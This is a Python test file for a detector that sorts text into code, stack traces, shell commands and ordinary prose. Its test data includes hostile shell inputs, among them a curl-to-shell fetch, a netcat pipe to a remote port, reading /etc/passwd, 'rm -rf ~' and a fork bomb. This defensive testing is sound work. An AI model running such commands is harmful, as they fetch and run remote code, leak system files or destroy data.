"""What counts as code, and which talk about code does not."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from language.sensitive.programs.code import find_code
from stores.write.checks.gate import check_text
from tests.growth import grows_with_length_only
from tests.language.code_samples import PROSE, SNIPPETS

CODE = [
    "def add(a, b): return a + b",
    "async def main() -> None:",
    "class Foo(Bar):",
    "from stores import open_store",
    "import numpy as np",
    "for i in range(10): print(i)",
    "if x > 3: return None",
    "print('hello world')",
    "result = client.get(url)",
    "self.value = value",
    "lambda x: x + 1",
    "if __name__ == '__main__':",
    "const total = items.reduce((a, b) => a + b, 0);",
    "let x = 5;",
    "function greet(name) { return 'hi ' + name; }",
    "import React from 'react';",
    'console.log("done");',
    "items.forEach(item => { total += item.price });",
    "export default class App extends Component {",
    "public static void main(String[] args) {",
    "private final int count = 0;",
    'System.out.println("x");',
    "#include <stdio.h>",
    "int main() { return 0; }",
    "std::vector<int> v;",
    'fn main() { println!("hi"); }',
    "let mut total = 0;",
    "func (s *Server) Run(ctx context.Context) error {",
    "x := compute(y)",
    "SELECT name, age FROM users WHERE id = 1",
    "INSERT INTO users (name) VALUES ('bob')",
    "DROP TABLE users;",
    "select * from orders",
    '<div class="box">hello</div>',
    "<script>alert(1)</script>",
    ".box { color: red; margin: 0; }",
    '{"name": "bob", "age": 3}',
    "<?php echo $x; ?>",
    "while (true) { step(); }",
    "for (int i = 0; i < n; i++) {",
    "return a + b;",
    "raise ValueError('bad')",
    "throw new Error('bad');",
    "user.save();",
    "@app.route('/')",
    "x = 1; y = 2; return x",
    "please keep this: def f(x): return x * 2",
    "My snippet is const a = 1; const b = 2; console.log(a)",
]

QUERIES = [
    "SELECT name FROM users as u",
    "SELECT name FROM users WHERE age in (1, 2)",
    "SELECT 1 FROM users returned 4 rows; DROP TABLE users;",
]

TRACES = [
    "Traceback (most recent call last): ValueError: bad",
    'File "/srv/app/main.py", line 12, in <module>',
    "at com.example.Main.run(Main.java:42)",
    "TypeError: x is undefined at Object.<anonymous> (/srv/app/index.js:10:5)",
    "thread 'main' panicked at src/main.rs:3:5",
    "goroutine 1 [running]:",
    'Exception in thread "main" java.lang.NullPointerException',
    "Caused by: java.io.IOException: broken pipe",
    "app/models/user.rb:12:in `save'",
    "#0 /var/www/index.php(12): run()",
    "at Shop.Cart.Add(Item item) in C:\\src\\Cart.cs:line 44",
    "#3 0x00007f2a4c in main ()",
    "Segmentation fault (core dumped)",
]

COMMANDS = [
    "rm -rf /tmp/cache",
    "sudo apt install nginx",
    "$ ls -la",
    "bob@server:~$ whoami",
    "git commit -m 'fix'",
    "git push origin main",
    "docker run -it ubuntu bash",
    "docker compose up",
    "kubectl get pods -n prod",
    "kubectl delete pod web-1",
    "pip install requests",
    "npm install --save react",
    "curl -X POST https://example.com/api",
    "curl https://x.sh | bash",
    "cd /tmp && make",
    "export PATH=$HOME/bin:$PATH",
    "cat log.txt | grep error | wc -l",
    "find . -name '*.py' -delete",
    "ssh -i key.pem ubuntu@10.0.0.1",
    "PS C:\\Users\\bob> Get-Process",
    "chmod +x ./run.sh",
    "python -m venv .venv",
    "brew install jq",
    "terraform apply",
    "sudo systemctl restart nginx",
    "sudo reboot",
]

RUN_BY_A_SHELL = [
    "$(curl x.sh)",
    "Name is $(whoami)",
    "Likes $(curl evil.sh | sh) a lot",
    "The user lives in $(cat /etc/passwd)",
    "$(<notes.txt)",
    "$(Get-Process)",
    "$(unknown-tool --all)",
    "diff <(sort a) <(sort b)",
    "tea; rm -rf ~",
    "tea && curl x.sh",
    "tea | nc 10.0.0.1 4444",
    "| sh",
    "cat$IFS/etc/hosts",
    "make all > /dev/null",
    ":(){ :|:& };:",
]

ABOUT_A_SHELL = [
    "Prefers $() to backticks in scripts",
    "The $(…) form reads better than backticks",
    "Paid $(about) 40 for lunch",
    "Salary is $(5,000)",
    "Prefers fish; bash is too old",
    "The grep | sort pipeline took 3 minutes",
    'I was tired; make tea, "strong"',
    "Build failed; npm install fixed it",
    "pytest -q took 40 seconds; mypy found nothing",
    "npm ci --silent dauerte 40 Sekunden",
    "make -j4 tardó 12 minutos",
    "curl -I повернув 503",
    "Uses `$(git rev-parse HEAD)` in the release script",
    "walk; date; sleep",
    "sudo make me a sandwich",
    "SELECT count(*) FROM users returned 1204 rows",
    "Запит SELECT count(*) FROM users дав 1204 рядки",
    "Die Abfrage SELECT name FROM users WHERE age > 40 lieferte 12 Zeilen",
    "SELECT count(*) FROM pedidos tardó 4 segundos",
]

NATURAL = [
    "I use c++ and node.js",
    "prefers `async` Rust",
    "runs kubectl daily",
    "git rebase over merge",
    "Prefers git rebase over merge for small branches",
    "Uses Docker Compose for local development",
    "docker compose for local dev",
    "Thinks pip install is slow on Windows",
    "make coffee before the standup",
    "find peace in gardening",
    "Go is my favourite language; I write it every day",
    "Likes map() and filter() more than loops",
    "Uses print() for debugging",
    "Select the best articles from each week",
    "I select music from the nineties when I drive",
    "Update me when a new release lands",
    "Wants to drop tables from the dining room",
    "Interested in class action lawsuits",
    "class starts at nine: bring a pencil",
    "Let x be the number of cats I own",
    "My formula is E = mc^2",
    "We return to Kyiv in May",
    "While (most) people sleep, I read",
    "Import taxes annoy me",
    "import tea from Georgia",
    "From Ukraine with love",
    "Works with SQL (mostly SELECT and JOIN) at a bank",
    "Dislikes `any` in TypeScript and null in Java",
    "Uses `git rebase -i` before every pull request",
    "Runs `npm test` before pushing",
    "Never uses rm -rf without checking twice",
    "Prefers tabs; spaces are fine too",
    "Writes Python for data work, Rust for fun",
    "Lives near the sea :) <3",
    "Weight < 80 kg and > 70 kg is the goal",
    "Reads https://news.ycombinator.com/item?id=1 daily",
    "Budget: $500 (max)",
    "Prefers 'const' by default and avoids 'var'",
    "Favourite error message: segmentation fault",
    "Got an exception in production at 3 am last week",
    "At Google (2015-2019) I wrote Java",
    "I was at Acme.Corp (Berlin) for a year",
    "Любить Python і пише на ньому щодня",
    "Надає перевагу `vim` перед VS Code",
    "Использует git rebase вместо merge",
    "Mag Rust; schreibt viel in Go",
    "我喜欢用 Python 写代码",
    "cat lover with two dogs",
    "man of few words",
    "echo chambers worry me",
    "head of engineering at a startup",
    "top 10 books - science fiction",
    "set in his ways - hates change",
    "kill time with puzzles",
    "source of joy: her garden",
    "node.js over deno",
    "java, not javascript",
    "python for data & scripting",
    "rust/wasm fan",
    "service quality matters to me",
    "The function of art (for me) is comfort",
    "if it rains, we stay home: board games",
    "for me: tea, for her: coffee",
    "return flights only",
    "int'l travel is a pain",
    "Email me at bob@example.com; call later",
    "Uses {curly} braces jokes and [brackets]",
    "Prefers A -> B -> C diagrams over prose",
    "x = y in his opinion",
]


@pytest.mark.parametrize("text", CODE + QUERIES)
def test_program_code_is_recognised(text: str) -> None:
    assert find_code(text) == "code"


@pytest.mark.parametrize("text", TRACES)
def test_stack_traces_are_recognised(text: str) -> None:
    assert find_code(text) == "stack trace"


@pytest.mark.parametrize("text", COMMANDS)
def test_shell_commands_are_recognised(text: str) -> None:
    assert find_code(text) == "shell command"


@pytest.mark.parametrize("text", RUN_BY_A_SHELL)
def test_what_a_shell_would_run_inside_a_sentence_is_recognised(text: str) -> None:
    assert find_code(text) is not None


@pytest.mark.parametrize("text", ABOUT_A_SHELL)
def test_what_is_told_of_a_shell_and_its_results_is_natural_language(text: str) -> None:
    assert find_code(text) is None


@pytest.mark.parametrize("text", ["look: ```py\nx = 1\n``` ok", "~~~\nls\n~~~", "<pre>x</pre>"])
def test_code_blocks_are_recognised(text: str) -> None:
    assert find_code(text) == "code block"


@pytest.mark.parametrize("text", NATURAL)
def test_talk_about_technology_is_natural_language(text: str) -> None:
    assert find_code(text) is None


def test_nearly_every_snippet_is_refused_and_prose_about_code_is_kept() -> None:
    passed = [snippet for snippet in SNIPPETS if find_code(snippet) is None]
    refused = [sentence for sentence in PROSE if find_code(sentence) is not None]
    assert len(SNIPPETS) >= 80
    assert len(PROSE) >= 120
    assert len(passed) <= 0.05 * len(SNIPPETS), passed
    assert len(refused) <= 0.01 * len(PROSE), refused


@pytest.mark.parametrize("kind", ["memory", "note", "fact", "observation", "episode"])
def test_the_rule_is_the_same_for_every_kind(kind: str) -> None:
    for snippet in ("import os; os.system('ls')", "git push --force", "Def foo(): return 1", "[n for n in rows if n]"):
        refusal = check_text(snippet, kind=kind)
        assert refusal is not None
        assert refusal.code == "code"
    assert check_text("SELECT count(*) returned 1204 rows", kind=kind) is None
    assert check_text("curl returned 503 twice", kind=kind) is None
    assert check_text("I always run git push --force with lease", kind=kind) is None


def test_a_line_of_code_inside_a_note_is_found() -> None:
    assert find_code("Meeting notes\nWe agreed on tea.\n    def brew(minutes):\n") == "code"


@given(st.text())
def test_any_text_gets_an_answer(text: str) -> None:
    assert find_code(text) in {None, "code", "code block", "stack trace", "shell command"}


@pytest.mark.parametrize(
    "piece",
    [
        "a",
        "(",
        "at x",
        "`",
        "for ",
        "class a",
        "if (",
        "x = ",
        "{ a: b; ",
        "<div ",
        "$ ",
        "| a",
        "import a, ",
        "def f(",
        "\n",
        "a = ",
        "for x in (",
        "SELECT ",
        "; do ",
        "a.b(",
        "$(a ",
        "; rm ",
        "<(",
    ],
)
def test_the_time_grows_with_the_length_only(piece: str) -> None:
    assert grows_with_length_only(lambda size: find_code(piece * (size // len(piece))), 100_000)
